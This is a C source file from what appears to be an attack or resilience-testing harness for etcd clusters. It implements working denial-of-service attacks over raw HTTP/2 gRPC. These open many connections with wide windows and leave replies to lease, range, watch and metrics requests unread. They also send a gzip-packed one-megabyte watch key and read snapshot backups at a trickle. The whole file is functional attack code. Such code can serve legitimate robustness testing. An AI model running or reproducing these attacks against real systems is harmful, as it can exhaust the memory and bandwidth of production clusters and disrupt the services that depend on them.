/* Replies that are never read, or slowly. */
#include "cluster/attacks_int.h"

#include "base/gzip.h"
#include "pb/codec.h"
#include "pb/etcd_messages.h"

#include <string.h>

enum {
    UNREAD_LINES = 10,
    UNREAD_REQUESTS = 60,
    LONG_KEY_BYTES = 1024 * 1024,
    BACKUPS = 8,
    BACKUP_BYTES_PER_S = 2700, /* of each */
};

struct unread {
    const char *path;
    struct bytes message;
    bool is_packed, is_get;
};

static bool ask_for(struct raw_h2 *r, const struct unread *u)
{
    struct buf block = {0};
    bool is_sent;

    if (u->is_get) {
        raw_h2_put_get(&block, bytes_of_str(u->path));
        is_sent = raw_h2_headers(r, buf_bytes(&block), true);
    } else {
        raw_h2_put_request(&block, u->path);
        if (u->is_packed)
            raw_h2_put_field(&block, "grpc-encoding", BYTES("gzip"));
        is_sent = raw_h2_headers(r, buf_bytes(&block), false) &&
                  raw_h2_message(r, u->message, u->is_packed, true);
    }
    buf_free(&block);
    return is_sent;
}

/* Many requests on each of some connections, whose windows are as wide as can be. Then nothing is
 * read until the member has had enough. */
static void leave_unread(struct attacker *a, const struct unread *u)
{
    struct raw_h2 lines[UNREAD_LINES];

    for (unsigned i = 0; i < UNREAD_LINES; i++)
        lines[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(100))
        for (unsigned i = 0; i < UNREAD_LINES; i++) {
            struct raw_h2 *r = &lines[i];
            if (!raw_h2_is_gone(r))
                continue;
            raw_h2_close(r);
            bool is_well = raw_h2_open(r, a->context, a->target.client, RAW_H2_WINDOW_MAX);
            for (unsigned k = 0; k < UNREAD_REQUESTS && is_well; k++) {
                is_well = ask_for(r, u);
                attacker_made(a);
            }
        }
}

static void leave_message_unread(struct attacker *a, const char *path,
                                 const struct pb_schema *schema, const void *message)
{
    struct buf wire = {0};

    pb_encode(schema, message, &wire);
    leave_unread(a, &(struct unread){.path = path, .message = buf_bytes(&wire)});
}

void attack_by_unread_keys_of_a_lease(struct attacker *a)
{
    leave_message_unread(a, "/etcdserverpb.Lease/LeaseTimeToLive",
                         &pb_lease_time_to_live_request_schema,
                         &(struct pb_lease_time_to_live_request){.id = SIEGE_LEASE, .keys = true});
}

void attack_by_unread_sorted_ranges(struct attacker *a)
{
    leave_message_unread(a, "/etcdserverpb.KV/Range", &pb_range_request_schema,
                         &(struct pb_range_request){.key = BYTES(SIEGE_PREFIX),
                                                    .range_end = BYTES("siege0"),
                                                    .sort_order = PB_SORT_DESCEND,
                                                    .sort_target = PB_SORT_BY_VALUE});
}

void attack_by_unread_leases(struct attacker *a)
{
    leave_unread(a, &(struct unread){.path = "/etcdserverpb.Lease/LeaseLeases"});
}

void attack_by_unread_metrics(struct attacker *a)
{
    leave_unread(a, &(struct unread){.path = "/metrics", .is_get = true});
}

void attack_by_unread_watches(struct attacker *a)
{
    static uint8_t key[8192];
    struct pb_watch_create_request create = {
        .key = bytes_of(key, sizeof(key)), .range_end = BYTES("\xff"), .prev_kv = true};

    memset(key, 'a', sizeof(key));
    leave_message_unread(a, "/etcdserverpb.Watch/Watch", &pb_watch_request_schema,
                         &(struct pb_watch_request){.which = PB_WATCH_CREATE, .create = &create});
}

/* A key that is a thousand times as long as what describes it, and a range that has all keys in it
 * that anybody writes. */
void attack_by_long_watch_keys(struct attacker *a)
{
    struct buf key = {0}, wire = {0}, packed = {0};
    struct gzip *gzip = gzip_new();

    memset(buf_extend(&key, LONG_KEY_BYTES), 'a', LONG_KEY_BYTES);
    struct pb_watch_create_request create = {.key = buf_bytes(&key), .range_end = BYTES("\xff")};
    pb_encode(&pb_watch_request_schema,
              &(struct pb_watch_request){.which = PB_WATCH_CREATE, .create = &create}, &wire);
    gzip_pack(gzip, buf_bytes(&wire), &packed);
    leave_unread(a, &(struct unread){.path = "/etcdserverpb.Watch/Watch",
                                     .message = buf_bytes(&packed),
                                     .is_packed = true});
}

static bool begin_backup(struct attacker *a, struct raw_h2 *r)
{
    if (!raw_h2_open(r, a->context, a->target.client, RAW_H2_WINDOW_USUAL))
        return false;
    attacker_made(a);
    return raw_h2_request(r, "/etcdserverpb.Maintenance/Snapshot", NULL, NULL, bytes_of(NULL, 0));
}

void attack_by_slow_backups(struct attacker *a)
{
    struct raw_h2 backups[BACKUPS];
    size_t got;

    for (unsigned i = 0; i < BACKUPS; i++)
        backups[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(1000))
        for (unsigned i = 0; i < BACKUPS; i++) {
            struct raw_h2 *r = &backups[i];
            bool is_well = r->fd >= 0 || begin_backup(a, r);
            is_well = is_well && raw_h2_read(r, BACKUP_BYTES_PER_S, &got) &&
                      raw_h2_allow(r, BACKUP_BYTES_PER_S);
            if (!is_well)
                raw_h2_close(r);
        }
}
